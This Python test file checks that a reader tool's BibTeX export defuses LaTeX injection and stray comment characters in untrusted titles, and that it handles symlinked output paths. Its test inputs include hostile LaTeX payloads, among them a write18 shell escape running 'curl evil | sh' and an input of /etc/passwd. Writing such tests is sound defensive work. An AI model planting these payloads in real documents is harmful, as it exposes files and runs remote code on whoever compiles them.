"""Issue 19, point 8 (exports): a title or author from an untrusted digest
cannot run LaTeX in the document that cites it, cannot split into two
authors, cannot comment out the rest of an entry; ``export -o`` onto a
symbolic link writes the file it points to.  Each test failed on the code
before the fix."""

from __future__ import annotations

import re

import bibtexparser
import pytest
from bibtexparser.middlewares import SeparateCoAuthors

from tui_reader.cli import main
from tui_reader.core.state import Bookmark, Snapshot, StateStore
from tui_reader.core.state.bibtex_text import _ALLOWED_COMMANDS
from tui_reader.core.state.export import bibtex_entry


def entry_fields(text: str) -> dict:
    library = bibtexparser.parse_string(text, append_middleware=[SeparateCoAuthors()])
    assert library.failed_blocks == []
    [entry] = library.entries
    return {name: field.value for name, field in entry.fields_dict.items()}


def snapshot(title: str, authors=("Ada Lovelace",)) -> Snapshot:
    snap = Snapshot.minimal("2601.00042")
    snap.title = title
    snap.authors = list(authors)
    return snap


def test_an_author_with_and_in_the_name_stays_one_author() -> None:
    fields = entry_fields(bibtex_entry(snapshot("T", ["Research and Development Team", "Ada Lovelace"])))
    assert fields["author"] == ["{Research and Development Team}", "Ada Lovelace"]


@pytest.mark.parametrize(
    "title",
    [
        r"Pwn \input{/etc/passwd} now",
        r"\immediate\write18{curl evil | sh} Title",
        r"\catcode`\@=11 \def\x{y} \csname input\endcsname",
        r"$^^5cinput{/etc/passwd}$ and ^^5cwrite18",
        r"\openout\jobname \usepackage{shellesc}",
    ],
)
def test_only_known_latex_commands_survive(title: str) -> None:
    text = bibtex_entry(snapshot(title))
    value = entry_fields(text)["title"]
    commands = set(re.findall(r"\\([A-Za-z]+)", value))
    assert commands <= _ALLOWED_COMMANDS, commands - _ALLOWED_COMMANDS
    assert "^^" not in value  # TeX reads ^^5c as a backslash
    # The text is still there, as text.
    assert "input" in value or "write18" in value or "catcode" in value or "openout" in value


def test_known_commands_and_math_are_kept() -> None:
    value = entry_fields(bibtex_entry(snapshot(r"On $\alpha$-Decay in \textit{Vivo} with $x^2$")))["title"]
    assert r"$\alpha$" in value and r"\textit{Vivo}" in value and "$x^2$" in value


@pytest.mark.parametrize("title", [r"Half \\% of it", r"50\\\\% off # really", "100% & _x_ \\"])
def test_no_percent_comments_out_the_rest(title: str) -> None:
    text = bibtex_entry(snapshot(title))
    for line in text.splitlines():
        # A % after an even number of backslashes starts a TeX comment.
        assert not re.search(r"(?<!\\)(?:\\\\)*%", line), line
    assert entry_fields(text)["eprint"] == "2601.00042"


def test_export_onto_a_symlink_writes_through(tmp_path, capsys) -> None:
    with StateStore.open() as store:
        store.merge_bookmarks([Bookmark("2601.00042", "2026-01-01T00:00:00Z", [], "", snapshot("Kept"))])
    real = tmp_path / "library" / "refs.bib"
    real.parent.mkdir()
    real.write_text("old\n")
    link = tmp_path / "refs.bib"
    link.symlink_to(real)
    assert main(["bookmarks", "export", "-f", "bibtex", "-o", str(link)]) == 0
    assert link.is_symlink() and link.resolve() == real
    assert "Kept" in real.read_text()
    assert sorted(p.name for p in real.parent.iterdir()) == ["refs.bib"]  # no temp file left


def test_export_onto_a_symlink_to_a_directory_is_refused(tmp_path, capsys) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    link = tmp_path / "out.bib"
    link.symlink_to(folder)
    assert main(["bookmarks", "export", "-o", str(link)]) == 2
    assert link.is_symlink() and "cannot write" in capsys.readouterr().err
